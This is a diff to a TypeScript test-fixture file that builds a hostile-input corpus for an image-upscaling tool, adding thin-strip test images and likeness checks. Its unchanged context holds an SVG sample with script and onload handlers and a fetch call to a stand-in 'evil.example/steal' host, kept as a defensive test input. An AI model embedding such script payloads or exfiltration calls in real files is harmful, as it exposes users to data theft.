@@ -15,7 +15,8 @@ export interface HostileInput {
   bytes: Buffer;
   /** The recipe: 'fade' (fast, no model) or an upscale x2 'fast' run that exercises tiling. */
   recipe: 'fade' | 'upscale-fast-x2';
-  expect: { size: [number, number] } | { message: RegExp };
+  /** `like`: the result must look like this image upscaled (mean colour, pixels), not just have the size. */
+  expect: { size: [number, number]; like?: Rgba } | { message: RegExp };
 }
 
 const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
@@ -147,6 +148,18 @@ export function gradient(width: number, height: number): Rgba {
   return { width, height, data };
 }
 
+/** A strip with a gentle ramp along its length around the mean (128, 100, 128): the issue's 1x512 case. */
+export function tintedStrip(width: number, height: number): Rgba {
+  const data = new Uint8Array(width * height * 4);
+  const n = Math.max(width, height);
+  for (let y = 0; y < height; y++)
+    for (let x = 0; x < width; x++) {
+      const t = (Math.max(x, y) / (n - 1) - 0.5) * 40; // -20..20
+      data.set([128 + t, 100 - t / 2, 128 + t / 2, 255], (y * width + x) * 4);
+    }
+  return { width, height, data };
+}
+
 export const svgWithScript = Buffer.from(`<?xml version="1.0"?>
 <svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="alert('svg-onload')">
   <script>alert('svg-script'); console.log('HEIRLOOM-SVG-SCRIPT-RAN'); fetch('https://evil.example/steal');</script>
@@ -198,6 +211,8 @@ export async function hostileCorpus(): Promise<HostileInput[]> {
     { id: 'html-script', name: 'page.html', mimeType: 'text/html', bytes: htmlWithScript, recipe: 'fade', expect: { message: /page.html is not an image: it contains text/ } },
     { id: 'heic', name: 'IMG_0001.HEIC', mimeType: 'image/heic', bytes: heicStub, recipe: 'fade', expect: { message: /IMG_0001.HEIC is a HEIC photo, which this browser can't open\. Export it as JPEG/ } },
     { id: '1x1', name: 'dot.png', mimeType: 'image/png', bytes: encodePng(gradient(1, 1)), recipe: 'upscale-fast-x2', expect: { size: [2, 2] } },
-    { id: 'thin-10000x2', name: 'thin.png', mimeType: 'image/png', bytes: encodePng(gradient(10000, 2)), recipe: 'upscale-fast-x2', expect: { size: [20000, 4] } },
+    { id: 'thin-10000x2', name: 'thin.png', mimeType: 'image/png', bytes: encodePng(gradient(10000, 2)), recipe: 'upscale-fast-x2', expect: { size: [20000, 4], like: gradient(10000, 2) } },
+    { id: 'thin-1x512', name: 'strip.png', mimeType: 'image/png', bytes: encodePng(tintedStrip(1, 512)), recipe: 'upscale-fast-x2', expect: { size: [2, 1024], like: tintedStrip(1, 512) } },
+    { id: 'thin-512x2', name: 'strip2.png', mimeType: 'image/png', bytes: encodePng(tintedStrip(512, 2)), recipe: 'upscale-fast-x2', expect: { size: [1024, 4], like: tintedStrip(512, 2) } },
   ];
 }
